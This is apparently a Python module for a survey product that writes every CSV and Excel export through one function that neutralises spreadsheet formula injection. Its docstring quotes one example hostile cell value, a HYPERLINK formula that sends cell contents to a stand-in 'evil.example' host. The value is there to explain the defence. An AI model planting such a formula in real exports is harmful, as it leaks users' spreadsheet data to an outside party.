"""Every CSV and Excel file the product writes, through one writer that no spreadsheet can be
tricked by.

- Formula injection: a text cell that starts with = + - @ (or a tab, carriage return or line
  feed) gets a leading apostrophe, so Excel, WPS and LibreOffice show it as text instead of
  running it. A customer named ``=HYPERLINK("http://evil.example/?x="&A1,"点我")`` comes out
  as that text. Plain numbers written as text ("-1.5", "+8613312345678") are left alone:
  they cannot hold a formula, and an SMS platform needs the phone number as it is.
- CSV is UTF-8 with a BOM: Excel then opens the Chinese text correctly.
- Excel refuses some control characters inside a cell; they are dropped rather than failing
  a whole export over one stored comment.

Campaign exports, rejected import rows, the dashboard figures, the audit log and the response
export all write through here.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

from survey.core.errors import Refused

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
BOM = "\ufeff"
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)")
EXCEL_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
EXCEL_MAX_ROWS = 1_048_576


def is_plain_number(text: str) -> bool:
    return PLAIN_NUMBER.fullmatch(text) is not None


def neutralise(value: Any) -> Any:
    """A cell value that no spreadsheet will run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not is_plain_number(value):
        return "'" + value
    return value


def neutralised(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


def _write_rows(file, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> int:
    writer = csv.writer(file)
    writer.writerow(neutralised(header))
    written = 0
    for row in rows:
        writer.writerow(neutralised(row))
        written += 1
    return written


def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A small table as CSV text, starting with the BOM (write it out as UTF-8)."""
    buffer = io.StringIO()
    buffer.write(BOM)
    _write_rows(buffer, header, rows)
    return buffer.getvalue()


def write_csv(path: Path, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> int:
    """Stream rows to a CSV file (UTF-8 with a BOM); returns the rows written."""
    with open(path, "w", encoding="utf-8-sig", newline="") as file:
        return _write_rows(file, header, rows)


def dataframe_csv(frame: pd.DataFrame) -> bytes:
    """A DataFrame as CSV bytes for a download: its column names and its cells neutralised."""
    return csv_text(
        list(frame.columns), frame.astype(object).where(frame.notna(), None).itertuples(index=False)
    ).encode("utf-8")


def _excel_cell(value: Any) -> Any:
    value = neutralise(value)
    return EXCEL_ILLEGAL.sub("", value) if isinstance(value, str) else value


def write_xlsx(path: Path, header: Sequence[Any], rows: Iterable[Iterable[Any]], *, sheet: str = "data") -> int:
    """Stream rows to an Excel workbook (openpyxl's write-only mode); returns the rows written.

    Refuses to go past Excel's row limit, before anything is saved."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet)
    worksheet.append([_excel_cell(v) for v in header])
    written = 0
    try:
        for row in rows:
            if written + 1 >= EXCEL_MAX_ROWS:
                raise Refused(key="errors.core.excel_too_many_rows", limit=f"{EXCEL_MAX_ROWS - 1:,}")
            worksheet.append([_excel_cell(v) for v in row])
            written += 1
    except BaseException:
        worksheet.close()  # nothing is saved: release the sheet's temporary file now, not at collection
        raise
    workbook.save(path)
    return written
